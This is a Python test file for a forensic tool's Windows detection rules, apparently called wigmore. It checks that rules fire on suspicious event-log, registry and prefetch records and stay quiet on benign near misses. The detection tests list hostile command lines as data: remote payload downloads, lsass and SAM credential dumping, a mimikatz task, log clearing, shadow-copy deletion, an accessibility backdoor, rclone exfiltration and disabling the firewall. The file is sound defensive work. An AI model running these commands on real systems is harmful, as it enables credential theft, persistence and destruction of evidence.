"""Windows rules and the templates: they load and name what exists; important ones fire on their record and not on a near miss."""

from __future__ import annotations

import importlib.resources
import re
from collections.abc import Callable, Iterator
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest
import yaml

from wigmore.agents.templates import Template, load_templates
from wigmore.graph.semantics import LETTERS, Semantics
from wigmore.model.nouns import NEUTRAL
from wigmore.model.protocols import Record
from wigmore.model.times import iso
from wigmore.records.indicators import Indicator, load_indicators, match, scan
from wigmore.records.rows import RowMaker
from wigmore.records.store import RecordStore
from wigmore.registry import found, parsers, tools

RULES = Path(str(importlib.resources.files("wigmore") / "rules"))
MADE_BY_CODE = {"file_listing", "volume", "partition", "container", "encrypted_volume", "shadow_copy"}
AUDIT = "Microsoft-Windows-Security-Auditing"
SYSMON = "Microsoft-Windows-Sysmon"
LOG = "Microsoft-Windows-Eventlog"
DEFENDER = "Microsoft-Windows-Windows Defender"
SCM = "Service Control Manager"
LSM = "Microsoft-Windows-TerminalServices-LocalSessionManager"
ACCOUNT = "S-1-5-21-1-2-3-1001"
Fires = Callable[..., list[str]]


@pytest.fixture(scope="module")
def indicators() -> dict[str, Indicator]:
    return load_indicators([RULES])


@pytest.fixture(scope="module")
def templates() -> dict[str, Template]:
    return load_templates([RULES])


@pytest.fixture(scope="module")
def known() -> set[str]:
    return {a for p in parsers().values() for a in p.artifacts} | MADE_BY_CODE


@pytest.fixture
def fires(tmp_path: Path, indicators: dict[str, Indicator]) -> Iterator[Fires]:
    """Which of the Windows rules match some records of one artifact."""
    stores: list[RecordStore] = []

    def run(artifact: str, *records: Record | dict[str, Any], path: str = "log") -> list[str]:
        folder = tmp_path / f"case-{len(stores)}"
        store = RecordStore(folder)
        stores.append(store)
        maker, spool = RowMaker("src", path, None, artifact), tmp_path / f"spool-{len(stores)}.jsonl"
        rows = [r if isinstance(r, Record) else Record(r, {}) for r in records]
        spool.write_bytes(b"".join(maker.line(n, {"kind": "record", "number": n}, r)[2] for n, r in enumerate(rows)))
        store.add([store.write_part("src", artifact, [spool])])
        ours = {
            rule.id: rule
            for rule in indicators.values()
            if rule.origin.startswith("windows") and any(fnmatchcase(artifact, a) for a in rule.artifacts)
        }
        return sorted(
            name
            for name in scan(store, ours.values(), "src")
            if match(store, ours[name], "src", {}, catalogue=tuple(ours.values()))
        )

    yield run
    for store in stores:
        store.close()


def event(number: int, provider: str, time: str = "", **values: Any) -> Record:
    data = {
        "event_id": number,
        "provider": provider,
        "computer": "HOST1",
        "channel": values.pop("channel", "Security"),
        **values,
    }
    return Record(data, {"time_created": iso(time)} if time else {}, "time_created" if time else None)  # type: ignore[dict-item]


def started(line: str, image: str = r"C:\Windows\System32\cmd.exe", **values: Any) -> Record:
    return event(1, SYSMON, CommandLine=line, Image=image, User=r"HOST1\someone", **values)


# what the files name must exist -----------------------------------------------------------------------------------------


def test_every_artifact_of_a_windows_rule_is_made_by_some_parser(
    indicators: dict[str, Indicator], known: set[str]
) -> None:
    later = {"windows.powershell_history"}  # the name PSReadLine histories have beside linux.history
    missing = [
        (r.id, a)
        for r in indicators.values()
        if r.origin.startswith("windows")
        for a in r.artifacts
        if a not in later and not any(fnmatchcase(k, a) for k in known)
    ]
    assert not missing


def test_bearings_name_templates_alternatives_and_propositions_that_exist(
    indicators: dict[str, Indicator], templates: dict[str, Template]
) -> None:
    semantics = Semantics.load([RULES])
    for rule in indicators.values():
        for bearing in rule.bears_on:
            name, _, alternative = bearing.template.partition("/")
            others = {a.id for a in templates[name].alternatives}
            assert not alternative or alternative in others, (rule.id, bearing)
            assert not bearing.against or bearing.against in others | {name}, (rule.id, bearing)
            capped = [
                semantics.cap(bearing.edge, a.replace("*", "x"), bearing.proposition).edge_type for a in rule.artifacts
            ]
            assert any(c != NEUTRAL for c in capped), (rule.id, bearing, "no artifact of the rule may carry this")


def test_probes_name_rules_roles_and_tools_that_exist(
    indicators: dict[str, Indicator], templates: dict[str, Template]
) -> None:
    roles, known_tools = found("role"), tools()
    for template in templates.values():
        for probe in template.probes:
            assert all(r in indicators for r in probe.rules), (template.id, probe.id, probe.rules)
            assert not probe.tool or probe.tool in known_tools, (template.id, probe.id)
            assert probe.role in roles, (template.id, probe.id)
            assert not probe.against or probe.against in {a.id for a in template.alternatives}, (template.id, probe.id)


def test_every_template_has_a_decisive_and_a_disconfirming_probe_and_an_innocent_explanation(
    templates: dict[str, Template],
) -> None:
    assert len(templates) == 18
    for template in templates.values():
        assert template.alternatives and any(p.decisive for p in template.probes), template.id
        assert any(p.disconfirming for p in template.probes), template.id
        assert template.reference.startswith("H"), template.id


def test_every_artifact_of_every_parser_has_an_entry_in_the_semantics(known: set[str]) -> None:
    entries = yaml.safe_load((RULES / "semantics.yaml").read_text(encoding="utf-8"))
    names = [e["artifact"] for e in entries]
    assert len(names) == len(set(names))
    assert not [
        a
        for a in sorted(known)
        if a not in ("encrypted_volume", "shadow_copy") and not any(fnmatchcase(a, n) for n in names)
    ]
    assert all(str(letter) in LETTERS for e in entries for letter in e["carries"].values())
    assert not [e["artifact"] for e in entries if {"KNEW", "PERSON"} & {k for k, v in e["carries"].items() if v == "D"}]


def test_titles_state_only_fields_that_stand_in_the_facts(indicators: dict[str, Indicator]) -> None:
    for rule in indicators.values():
        if rule.origin.startswith("windows"):
            named = set(re.findall(r"\{([^{}]+)\}", rule.title)) - {"count", "first", "last", "host"}
            assert named <= set(rule.facts), (rule.id, named - set(rule.facts))
            assert not rule.bears_on or rule.caveat, rule.id


def test_techniques_have_the_form_of_attack_ids(
    indicators: dict[str, Indicator], templates: dict[str, Template]
) -> None:
    ids = [(r.id, t) for r in indicators.values() for t in r.attack] + [
        (t.id, a) for t in templates.values() for a in t.attack
    ]
    assert not [i for i in ids if not re.fullmatch(r"T\d{4}(\.\d{3})?", i[1])]


def test_the_catalogue_names_tools_and_artifacts_that_exist(known: set[str]) -> None:
    for source in yaml.safe_load((RULES / "expected.yaml").read_text(encoding="utf-8")):
        for entry in source["artifacts"]:
            named = {d.strip().partition("@")[0] for d in entry["detector"].split("|")}
            assert named <= set(tools()), (source["source"], entry["name"], named - set(tools()))
            for artifact in entry["records"]:
                assert any(k == artifact or k.startswith(artifact + ".") for k in known), (source["source"], artifact)


# important rules: the record and its near miss --------------------------------------------------------------------------


def test_a_log_cleared_by_an_account_is_seen_and_one_cleared_by_the_system_is_not(fires: Fires) -> None:
    assert "evtx.log_cleared" in fires(
        "windows.eventlog", event(1102, LOG, SubjectUserName="someone", SubjectUserSid=ACCOUNT)
    )
    by_system = fires(
        "windows.eventlog", event(104, LOG, SubjectUserName="SYSTEM", SubjectUserSid="S-1-5-18", channel="System")
    )
    assert "evtx.log_cleared" not in by_system
    assert "evtx.cleared_at_set_up" in by_system
    assert not fires(
        "windows.eventlog", event(1102, "Some-Other-Provider", SubjectUserName="someone", SubjectUserSid=ACCOUNT)
    )


def test_set_up_accounts_are_left_alone_and_an_account_made_by_an_account_is_seen(fires: Fires) -> None:
    values = {"TargetUserName": "helper", "TargetSid": "S-1-5-21-1-2-3-1007"}
    assert fires(
        "windows.eventlog", event(4720, AUDIT, SubjectUserName="someone", SubjectUserSid=ACCOUNT, **values)
    ) == ["evtx.account_created"]
    set_up = event(4720, AUDIT, SubjectUserName="MINWINPC$", SubjectUserSid="S-1-5-18", **values)
    assert fires("windows.eventlog", set_up) == ["evtx.account_changed_by_system"]
    other_group = event(
        4732, AUDIT, SubjectUserName="someone", SubjectUserSid=ACCOUNT, TargetSid="S-1-5-32-545", MemberSid=ACCOUNT
    )
    assert "evtx.account_to_administrators" not in fires("windows.eventlog", other_group)
    same_name = event(
        4781,
        AUDIT,
        SubjectUserName="someone",
        SubjectUserSid=ACCOUNT,
        OldTargetUserName="Guests",
        NewTargetUserName="guests",
    )
    assert not fires("windows.eventlog", same_name)


def failures(count: int, seconds: int, address: str = "192.0.2.7") -> list[Record]:
    return [
        event(
            4625,
            AUDIT,
            f"2026-01-01T10:{n * seconds // 60:02d}:{n * seconds % 60:02d}Z",
            IpAddress=address,
            TargetUserName="admin",
            LogonType=3,
            Status="0xc000006d",
            SubStatus="0xc000006a",
        )
        for n in range(count)
    ]


def success(address: str, time: str = "2026-01-01T10:20:00Z", **values: Any) -> Record:
    more = {"TargetUserName": "admin", "TargetUserSid": ACCOUNT, "LogonType": 3, **values}
    return event(4624, AUDIT, time, IpAddress=address, **more)


def test_a_burst_of_failures_needs_number_and_speed(fires: Fires) -> None:
    assert fires("windows.eventlog", *failures(9, 10)) == ["evtx.logon_failures_address"]
    assert not fires("windows.eventlog", *failures(4, 10))
    assert not fires("windows.eventlog", *failures(9, 400))
    other = [
        event(4625, "Microsoft-Windows-EventSystem", f"2026-01-01T10:00:{n:02d}Z", channel="Application")
        for n in range(20)
    ]
    assert not fires("windows.eventlog", *other)


def test_guessing_succeeds_only_with_a_success_from_the_same_origin(fires: Fires) -> None:
    assert "evtx.failures_then_logon" in fires("windows.eventlog", *failures(9, 10), success("192.0.2.7"))
    assert "evtx.failures_then_logon" not in fires("windows.eventlog", *failures(9, 10), success("192.0.2.99"))
    before = success("192.0.2.7", "2026-01-01T09:00:00Z")
    assert "evtx.failures_then_logon" not in fires("windows.eventlog", before, *failures(9, 10))
    anonymous = success("192.0.2.7", TargetUserSid="S-1-5-7", TargetUserName="ANONYMOUS LOGON")
    assert "evtx.failures_then_logon" not in fires("windows.eventlog", *failures(9, 10), anonymous)


def test_remote_desktop_needs_a_remote_address_and_the_loopback_is_a_tunnel(fires: Fires) -> None:
    assert fires("windows.eventlog", event(21, LSM, Address="198.51.100.4", User=r"HOST1\a")) == ["evtx.rdp_session"]
    assert fires("windows.eventlog", event(21, LSM, Address="LOCAL", User=r"HOST1\a")) == ["evtx.rdp_local_sessions"]
    assert fires("windows.eventlog", success("127.0.0.1", LogonType=10)) == ["evtx.rdp_loopback"]
    assert fires("windows.eventlog", success("198.51.100.4", LogonType=10)) == ["evtx.rdp_logon"]
    assert not fires("windows.eventlog", success("198.51.100.4", LogonType=3))


@pytest.mark.parametrize(
    "line,rule",
    [
        (r"certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe", "cmd.download"),
        (r"regsvr32.exe /u /s /i:http://192.0.2.1/a.sct scrobj.dll", "cmd.proxy_execution"),
        (r"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "cmd.encoded_powershell"),
        (r"vssadmin.exe delete shadows /all /quiet", "cmd.recovery_removed"),
        (r"wevtutil cl Security", "cmd.log_cleared"),
        (r"reg save HKLM\SAM C:\temp\s.hiv", "cmd.credential_dump"),
        (r"procdump64.exe -accepteula -ma lsass.exe C:\x.dmp", "cmd.credential_dump"),
        (r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\x.bin full", "cmd.credential_dump"),
        (
            r'reg add "HKLM\SOFTWARE\X\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe',
            "cmd.debugger_added",
        ),
        (r"net localgroup administrators helper /add", "cmd.account_added"),
        (r"schtasks /create /sc minute /mo 5 /tn X /tr C:\TMP\a.exe", "cmd.task_created"),
        (r"rclone.exe copy C:\work remote:drop", "cmd.transfer_out"),
        (r"sdelete64.exe -p 3 C:\work\list.xlsx", "cmd.wipe"),
        (r"netsh advfirewall set allprofiles state off", "cmd.protection_disabled"),
    ],
)
def test_command_lines_of_concern_are_seen(fires: Fires, line: str, rule: str) -> None:
    assert rule in fires("windows.eventlog", started(line))


@pytest.mark.parametrize(
    "line",
    [
        r"certutil.exe -hashfile C:\Users\a\setup.exe SHA256",
        r"C:\Windows\system32\regsvr32.exe /s C:\Windows\System32\some.dll",
        r"powershell -File C:\Windows\CCM\script.ps1",
        r"vssadmin list shadows",
        r"wevtutil im C:\Windows\provider.man",
        r'reg query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"',
        r"net localgroup administrators",
        r"schtasks /query /fo list",
        r"rclone version",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"ping 127.0.0.1 -n 133",
        r"ngen.exe uninstall C:\Windows\assembly\NativeImages\Some.ni.dll /noroot",
    ],
)
def test_ordinary_command_lines_are_left_alone(fires: Fires, line: str) -> None:
    assert not fires("windows.eventlog", started(line, r"C:\Windows\System32\program.exe"))


def test_the_same_line_in_an_event_that_is_no_process_start_is_nothing(fires: Fires) -> None:
    assert not fires(
        "windows.eventlog", event(1, "Microsoft-Windows-Kernel-General", CommandLine="wevtutil cl Security")
    )


def test_a_scheduled_credential_tool_is_persistence_and_not_a_dump(fires: Fires) -> None:
    line = r'schtasks /create /f /sc minute /mo 5 /tn X /tr "C:\TMP\m.exe sekurlsa::LogonPasswords > C:\TMP\o.txt"'
    assert fires("windows.eventlog", started(line, r"C:\Windows\System32\schtasks.exe")) == ["cmd.task_created"]


def test_a_remote_execution_tool_without_a_target_is_local_use(fires: Fires) -> None:
    local = started(r"psexec64.exe -accepteula -s cmd.exe", r"C:\Tools\psexec64.exe")
    remote = started(r"psexec64.exe \\srv01 -s cmd.exe", r"C:\Tools\psexec64.exe")
    assert fires("windows.eventlog", local) == ["cmd.psexec_client", "cmd.remote_execution_to_self"]
    assert fires("windows.eventlog", remote) == ["cmd.psexec_client", "cmd.remote_execution"]


def test_services_of_drivers_and_updaters_are_left_alone(fires: Fires) -> None:
    def service(name: str, image: str) -> Record:
        return event(7045, SCM, ServiceName=name, ImagePath=image, ServiceType="user mode service", channel="System")

    assert fires("windows.eventlog", service("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe")) == ["evtx.psexec_service"]
    assert "evtx.service_command" in fires(
        "windows.eventlog", service("abc", r"%COMSPEC% /Q /c echo x ^> \\127.0.0.1\C$\__o")
    )
    assert fires("windows.eventlog", service("abc", r"C:\Users\Public\a.exe")) == ["evtx.service_user_writable"]
    for image in (
        r"\SystemRoot\System32\drivers\e1i65x64.sys",
        r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc',
        r"%SystemRoot%\system32\svchost.exe -k print",
    ):
        assert not fires("windows.eventlog", service("ordinary", image))


def test_a_network_logon_joined_to_a_service_within_seconds_is_remote_execution(fires: Fires) -> None:
    def service(second: int) -> Record:
        return event(
            7045,
            SCM,
            f"2026-01-01T10:20:{second:02d}Z",
            ServiceName="x",
            ImagePath=r"C:\Windows\a.exe",
            ServiceType="user mode service",
            channel="System",
        )

    assert "evtx.logon_then_service" in fires("windows.eventlog", success("198.51.100.4"), service(3))
    assert "evtx.logon_then_service" not in fires("windows.eventlog", success("198.51.100.4"), service(40))


def test_protection_that_reads_the_logon_process_is_no_dump(fires: Fires) -> None:
    def opened(image: str, access: str = "0x1010") -> Record:
        return event(10, SYSMON, SourceImage=image, TargetImage=r"C:\Windows\system32\lsass.exe", GrantedAccess=access)

    assert fires("windows.eventlog", opened(r"C:\Users\a\m.exe")) == ["evtx.lsass_access"]
    protection = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"
    assert fires("windows.eventlog", opened(protection)) == ["evtx.lsass_access_by_protection"]
    assert not fires("windows.eventlog", opened(r"C:\Users\a\m.exe", "0x1000"))


def test_windows_own_subscription_and_the_time_service_are_left_alone(fires: Fires) -> None:
    wmi = "Microsoft-Windows-WMI-Activity"
    default = event(5861, wmi, CONSUMER='NTEventLogEventConsumer="SCM Event Log Consumer"', ESS="SCM Event Log Filter")
    assert fires("windows.eventlog", default) == ["evtx.wmi_default_subscription"]
    assert fires("windows.eventlog", event(5861, wmi, CONSUMER='CommandLineEventConsumer="x"', ESS="f")) == [
        "evtx.wmi_subscription"
    ]
    clock = {"SubjectUserSid": ACCOUNT, "SubjectUserName": "someone"}
    assert not fires("windows.eventlog", event(4616, AUDIT, ProcessName=r"C:\Windows\System32\svchost.exe", **clock))
    assert fires("windows.eventlog", event(4616, AUDIT, ProcessName=r"C:\Windows\System32\dllhost.exe", **clock)) == [
        "evtx.clock_changed"
    ]


def test_a_creation_time_set_back_counts_and_one_set_forward_or_by_an_installer_does_not(fires: Fires) -> None:
    def stamped(image: str, now: str, before: str) -> Record:
        data = {
            "event_id": 2,
            "provider": SYSMON,
            "computer": "HOST1",
            "Image": image,
            "TargetFilename": r"C:\Users\a\t.exe",
        }
        return Record(data, {"CreationUtcTime": iso(now), "PreviousCreationUtcTime": iso(before)}, None)  # type: ignore[dict-item]

    old, new = "2016-02-02T15:30:02Z", "2019-04-30T10:12:45Z"
    assert fires("windows.eventlog", stamped(r"C:\Users\a\x.exe", old, new)) == ["evtx.file_time_changed"]
    assert not fires("windows.eventlog", stamped(r"C:\Users\a\x.exe", new, old))
    assert fires("windows.eventlog", stamped(r"C:\Windows\System32\msiexec.exe", old, new)) == [
        "evtx.file_time_changed_by_installer"
    ]


def test_prefetch_of_system_programs_in_their_own_folder_is_nothing(fires: Fires) -> None:
    def run(name: str, folder: str) -> dict[str, Any]:
        return {"executable": name, "executable_path": "\\VOLUME{01d8-1a48}\\" + folder + "\\" + name, "run_count": 2}

    assert not fires("windows.prefetch", run("SVCHOST.EXE", r"WINDOWS\SYSTEM32"))
    assert not fires("windows.prefetch", run("EXPLORER.EXE", "WINDOWS"))
    unpacked = run("DISMHOST.EXE", r"WINDOWS\TEMP\1F626032-A0AB-11EC-AAFA-EC63D7728336")
    assert fires("windows.prefetch", unpacked) == ["prefetch.installer_from_temp"]
    assert "prefetch.system_name_wrong_place" in fires("windows.prefetch", run("SVCHOST.EXE", r"USERS\PUBLIC"))
    assert fires("windows.prefetch", run("RCLONE.EXE", r"USERS\A\APPDATA\LOCAL\TEMP\RC")) == [
        "prefetch.transfer_tool",
        "prefetch.user_writable",
    ]
    assert fires("windows.prefetch", run("SDELETE64.EXE", r"USERS\A\TOOLS")) == ["prefetch.wiping_tool"]


def test_seeded_counters_are_no_use_of_a_program(fires: Fires) -> None:
    values = {"name": "AnyDesk.exe", "path": r"C:\Tools\AnyDesk.exe", "counter": 5}
    times = {"last_run": iso("2026-01-01T10:00:00Z")}
    seen = Record({**values, "seed_suspected": False}, times)  # type: ignore[arg-type]
    assert fires("windows.registry.userassist", seen) == ["reg.userassist_remote_access"]
    seeded = Record({**values, "seed_suspected": True}, times)  # type: ignore[arg-type]
    assert not fires("windows.registry.userassist", seeded)
    assert not fires("windows.registry.userassist", Record({**values, "seed_suspected": False}, {}))


def test_autostart_of_installed_and_per_account_products_is_left_alone(fires: Fires) -> None:
    def entry(command: str) -> dict[str, Any]:
        return {
            "command": command,
            "name": "X",
            "mechanism": "run",
            "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        }

    assert fires("windows.registry.autostart", entry(r"C:\Users\a\AppData\Local\Temp\rc\s.cmd /quiet")) == [
        "reg.autostart_user_writable"
    ]
    assert not fires("windows.registry.autostart", entry(r"%windir%\system32\SecurityHealthSystray.exe"))
    product = fires(
        "windows.registry.autostart", entry(r'"C:\Users\a\AppData\Local\Discord\Update.exe" --processStart Discord.exe')
    )
    assert product == ["reg.autostart_per_account_product"]


def test_built_in_accounts_and_phones_on_the_bus_are_left_alone(fires: Fires) -> None:
    assert fires("windows.registry.account", {"user_name": "a", "rid": 1001, "rid_in_f": 1001}) == ["reg.local_account"]
    assert not fires("windows.registry.account", {"user_name": "DefaultAccount", "rid": 503, "rid_in_f": 503})
    assert fires("windows.registry.account", {"user_name": "Guest", "rid": 501, "rid_in_f": 500}) == [
        "reg.hidden_account"
    ]
    assert fires("windows.registry.usb_storage", {"serial": "1234", "device_id": "Disk&Ven_X", "is_current": True}) == [
        "reg.usb_storage"
    ]
    assert not fires(
        "windows.registry.usb_device", {"serial": "8db9", "device_id": "VID_05AC&PID_12A8", "is_current": True}
    )


def test_shell_lines_need_a_windows_history_and_links_a_removable_drive(fires: Fires) -> None:
    history = "Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    line = {"command": "wevtutil cl Security", "shell": "powershell"}
    assert fires("linux.history", line, path=history) == ["hist.log_cleared"]
    assert not fires("linux.history", line, path="home/a/.bash_history")
    assert not fires("linux.history", {"command": "wevtutil el", "shell": "powershell"}, path=history)
    assert fires("windows.lnk", {"local_path": "E:\\a.step", "drive_type": "removable"}) == ["lnk.removable_item"]
    assert not fires("windows.lnk", {"local_path": "C:\\a.step", "drive_type": "fixed"})


def test_tasks_of_vendors_are_left_alone(fires: Fires) -> None:
    def task(line: str) -> dict[str, Any]:
        return {"task_name": "T", "task_path": "\\T", "command_line": line}

    assert fires("windows.scheduled_task", task(r"C:\Users\a\AppData\Local\Temp\rc\sync.cmd /quiet")) == [
        "task.user_writable"
    ]
    for line in (
        r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua /installsource scheduler",
        r"%SystemRoot%\system32\ClipRenew.exe -e",
        r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe",
    ):
        assert not fires("windows.scheduled_task", task(line))


def test_routine_settings_of_the_protection_are_not_its_end(fires: Fires) -> None:
    base = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
    assert fires("windows.eventlog", event(5001, DEFENDER)) == ["evtx.defender_disabled"]
    off = event(5007, DEFENDER, **{"New Value": base + "Real-Time Protection\\DisableRealtimeMonitoring = 0x1"})
    assert fires("windows.eventlog", off) == ["evtx.defender_disabled"]
    for value in (
        "SpyNet\\MAPSconcurrency = 0x1",
        "Features\\TamperProtection = 0x1",
        "Real-Time Protection\\DisableRealtimeMonitoring = 0x0",
    ):
        assert not fires("windows.eventlog", event(5007, DEFENDER, **{"New Value": base + value}))
    added = event(5007, DEFENDER, **{"New Value": base + "Exclusions\\Paths\\C:\\TMP = 0x0"})
    assert fires("windows.eventlog", added) == ["evtx.defender_exclusion"]
